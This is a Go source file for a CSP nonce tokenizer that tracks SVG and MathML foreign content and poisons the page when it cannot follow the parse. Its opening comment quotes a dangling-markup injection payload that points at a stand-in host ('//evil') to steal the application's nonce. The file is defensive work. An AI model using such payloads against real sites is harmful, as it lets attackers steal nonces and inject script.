package csp

// Foreign content: inside <svg> and <math>, the HTML parser reads <style>, <script>, <title>,
// <textarea>, <noscript>, ... as elements whose content is markup, not raw text, and reads
// <![CDATA[ ... ]]> as text. A tokenizer that switched to raw text there would read no tag up
// to the element's end tag while the browser reads tags: user content such as
// `<svg><style></svg><p><link rel=stylesheet href=//evil x=` would then swallow the
// application's next marked tag, nonce included, without the tokenizer seeing the '<' that
// gives the dangling markup away.
//
// The tokenizer follows the elements open in foreign content (a few, bounded), the HTML
// integration points (<foreignObject>, <desc>, <title> in SVG; <mi>, <mo>, <mn>, <ms>,
// <mtext> in MathML) and the tags that break out of foreign content (<p>, <div>, </p>, ...),
// as the tree builder does (WHATWG HTML §13.2.6.5). Where following it would take the whole
// tree builder (a tag inside an integration point, an end tag that closes an HTML element
// below the <svg>, <font> or <annotation-xml>, deeper nesting than it follows), it gives up:
// the rest of the page is poisoned, so every later placeholder becomes as many '-' as it has
// and no nonce attribute is kept. The page's later tags then lose their nonce (blocked), and
// no tag ever gets one by a misreading.

// maxForeign is how many elements open in foreign content are followed.
const maxForeign = 16

type foreignElem struct {
	name [tagNameLen]byte
	n    uint8
	ns   byte // 's' (SVG) or 'm' (MathML)
	ip   bool // an HTML integration point: its content is HTML
}

// inForeign reports whether the tokenizer is in foreign content (where <![CDATA[ is text).
func (t *tokenizer) inForeign() bool {
	return t.fN > 0 && !t.foreign[t.fN-1].ip
}

// treeTag follows the tag that ends through foreign content, and reports whether it is an
// HTML element (so whether a raw text element's content is raw text).
func (t *tokenizer) treeTag(selfClosing bool) bool {
	if t.poisoned {
		return t.fN == 0
	}
	name := ""
	if t.nameN <= len(t.name) {
		name = string(t.name[:t.nameN]) // compared only: no allocation
	}
	if t.fN == 0 {
		if !t.endTag && !selfClosing && (name == "svg" || name == "math") {
			t.push(name, name[0], false)
		}
		return true
	}
	top := &t.foreign[t.fN-1]
	if top.ip {
		// Only text is followed inside an integration point, up to its end tag.
		if t.endTag && name != "" && name == string(top.name[:top.n]) {
			t.fN--
		} else {
			t.poison()
		}
		return false
	}
	if t.endTag {
		if name == "p" || name == "br" { // they break out of foreign content
			t.fN = 0
			return true
		}
		for k := t.fN - 1; k >= 0 && !t.foreign[k].ip; k-- {
			if name != "" && name == string(t.foreign[k].name[:t.foreign[k].n]) {
				t.fN = k
				return false
			}
		}
		t.poison() // it closes an HTML element below: the tree builder's business
		return false
	}
	switch name {
	case "b", "big", "blockquote", "body", "br", "center", "code", "dd", "div", "dl", "dt", "em",
		"embed", "h1", "h2", "h3", "h4", "h5", "h6", "head", "hr", "i", "img", "li", "listing", "menu",
		"meta", "nobr", "ol", "p", "pre", "ruby", "s", "small", "span", "strong", "strike", "sub",
		"sup", "table", "tt", "u", "ul", "var":
		t.fN = 0 // back to HTML, and the tag is an HTML element
		return true
	case "", "font", "annotation-xml": // too long to follow; depends on attributes
		t.poison()
		return false
	}
	if !selfClosing {
		ns := top.ns
		ip := ns == 's' && (name == "foreignobject" || name == "desc" || name == "title") ||
			ns == 'm' && (name == "mi" || name == "mo" || name == "mn" || name == "ms" || name == "mtext")
		t.push(name, ns, ip)
	}
	return false
}

func (t *tokenizer) push(name string, ns byte, ip bool) {
	if t.fN == maxForeign {
		t.poison()
		return
	}
	e := &t.foreign[t.fN]
	e.n = uint8(copy(e.name[:], name))
	e.ns, e.ip = ns, ip
	t.fN++
}

// poison gives up following the page: from here on no nonce is kept or written. Only in
// Placeholder mode: Tags mode serves pages without user content, and keeps nonce-ing them.
func (t *tokenizer) poison() {
	if t.in.mode == Placeholder {
		t.poisoned = true
		t.suspicious = true
	}
}
